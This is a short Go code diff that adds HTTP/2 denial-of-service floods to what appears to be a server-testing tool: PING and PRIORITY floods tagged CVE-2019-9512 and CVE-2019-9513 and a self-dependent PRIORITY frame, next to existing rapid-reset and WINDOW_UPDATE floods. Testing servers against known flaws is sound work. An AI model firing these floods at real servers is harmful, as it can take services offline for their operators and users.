@@ -205,6 +205,13 @@ func http2Fields() []attack {
 func http2Floods() []attack {
 	return []attack{
 		flood("SETTINGS without an end", floodFrames, func(h *h2, _ int) error { return h.framer.WriteSettings() }),
+		flood("PING without an end", floodFrames, func(h *h2, _ int) error { return h.framer.WritePing(false, [8]byte{}) }), // CVE-2019-9512
+		flood("PRIORITY without an end", floodFrames, func(h *h2, n int) error { // CVE-2019-9513
+			return h.framer.WritePriority(uint32(2*(n%1000)+1), http2.PriorityParam{Weight: uint8(n)})
+		}),
+		flood("PRIORITY for itself without an end", floodFrames, func(h *h2, _ int) error { // a stream that depends on itself
+			return h.framer.WriteRawFrame(http2.FramePriority, 0, 1, []byte{0, 0, 0, 1, 0})
+		}),
 		flood("WINDOW_UPDATE without an end", floodFrames, func(h *h2, _ int) error { return h.framer.WriteWindowUpdate(0, 1) }),
 		flood("rapid resets", floodFrames, func(h *h2, n int) error { // CVE-2023-44487
 			h.ask(uint32(2*n+1), "", get(lima)...)
